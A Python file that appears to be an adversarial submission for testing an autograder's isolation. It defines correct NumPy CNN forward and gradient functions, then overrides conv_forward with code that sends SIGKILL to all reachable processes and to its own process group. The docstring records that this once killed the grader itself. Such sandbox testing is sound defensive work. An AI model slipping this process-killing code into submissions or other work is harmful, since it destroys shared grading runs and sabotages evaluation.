"""Hostile: signals its whole process group, then every process it may signal, with SIGKILL
(kill(0) once reached the grader itself: its group was the grader's, and the class run died)."""
ATTACKS = ("1.2",)

# --- correct answers (from submissions/correct_vectorized.py) ------------------------------
import numpy as np

F = 2      # filter size
P = 2      # pool size


def _sig(a):
    return 1.0 / (1.0 + np.exp(-a))


def layer_sizes(width=4, height=4, filter_size=2, pool_size=2, stride=1):
    c_w = (width - filter_size) // stride + 1
    c_h = (height - filter_size) // stride + 1
    return c_w, c_h, (c_w - pool_size) // stride + 1, (c_h - pool_size) // stride + 1


def conv_forward(x, w):
    x = np.asarray(x, dtype=float)
    w = np.asarray(w, dtype=float)
    n = x.shape[0] - F + 1
    # stack the 4 shifted views -> patches[ci, cj, fi, fj] = x[ci+fi, cj+fj]
    patches = np.stack([np.stack([x[fi:fi + n, fj:fj + n] for fj in range(F)], axis=-1)
                        for fi in range(F)], axis=-2)
    return _sig(np.einsum('abij,ijk->abk', patches, w))


def sum_pool(y):
    y = np.asarray(y, dtype=float)
    return y[:-1, :-1] + y[:-1, 1:] + y[1:, :-1] + y[1:, 1:]


def fc_forward(z, v):
    return _sig(np.einsum('ijk,ijkm->m', z, v))


def _delta(o, target):
    o = np.asarray(o, dtype=float)
    return (o - np.asarray(target, dtype=float)) * o * (1 - o)


def grad_fc_weights(z, o, target):
    return np.einsum('ijk,m->ijkm', np.asarray(z, dtype=float), _delta(o, target))


def grad_pool_output(v, o, target):
    return np.asarray(v, dtype=float) @ _delta(o, target)


def grad_conv_sum_pool(dE_dz):
    dz = np.asarray(dE_dz, dtype=float)
    dy = np.zeros((dz.shape[0] + 1, dz.shape[1] + 1, dz.shape[2]))
    dy[:-1, :-1] += dz
    dy[:-1, 1:] += dz
    dy[1:, :-1] += dz
    dy[1:, 1:] += dz
    return dy


def grad_filters(x, y, dE_dy):
    x, y = np.asarray(x, dtype=float), np.asarray(y, dtype=float)
    delta = np.asarray(dE_dy, dtype=float) * y * (1 - y)
    n = y.shape[0]
    dw = np.empty((F, F, y.shape[2]))
    for fi in range(F):
        for fj in range(F):
            dw[fi, fj] = np.einsum('ab,abk->k', x[fi:fi + n, fj:fj + n], delta)
    return dw


def grad_conv_max_pool(y, dE_dz):
    y = np.asarray(y, dtype=float)
    dz = np.asarray(dE_dz, dtype=float)
    win = np.lib.stride_tricks.sliding_window_view(y, (P, P), axis=(0, 1))  # (2,2,3,P,P)
    flat = win.reshape(win.shape[:3] + (P * P,)).argmax(axis=-1)
    r, c = np.divmod(flat, P)
    pi, pj, k = np.indices(flat.shape)
    dy = np.zeros_like(y)
    np.add.at(dy, (pi + r, pj + c, k), dz)   # add.at so overlapping windows accumulate
    return dy


# --- the attack ----------------------------------------------------------------------------
import os
import signal


def conv_forward(x, w):
    try:
        os.kill(-1, signal.SIGKILL)  # every process it may signal: in its PID namespace, none else
    except OSError:
        pass
    os.kill(0, signal.SIGKILL)  # its process group
    return None
